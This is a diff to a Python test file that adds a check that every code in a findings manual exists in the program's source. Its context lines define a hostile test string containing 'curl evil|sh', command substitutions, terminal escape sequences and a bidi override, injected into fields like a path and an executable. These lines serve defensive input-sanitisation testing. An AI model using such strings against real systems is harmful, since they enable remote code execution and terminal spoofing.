@@ -453,6 +453,14 @@ def test_every_code_of_a_rule_and_of_a_case_is_in_the_manual() -> None:
     assert codes <= manual
 
 
+def test_every_code_of_the_manual_is_one_of_the_program() -> None:
+    table = (ROOT / "docs" / "findings.md").read_text().partition("## Codes of `check`")[2].partition("## ")[0]
+    listed = {code for cell in re.findall(r"(?m)^\| (`.*?) \|", table) for code in re.findall(r"`([a-z0-9-]+)`", cell)}
+    sources = "".join(path.read_text() for path in (ROOT / "orchestrator").rglob("*.py"))
+    assert len(listed) > 80
+    assert {code for code in listed if f'"{code}"' not in sources} == set()
+
+
 HOSTILE = "/x; curl evil|sh #\x1b]52;c;Zm9v\x07\x1b[2J\u202e`id`$(id)\nerror: EVIL"
 OLD = {**PYTHON, "torch": f"1.0+{HOSTILE}", "executable": HOSTILE, "path": HOSTILE}
 
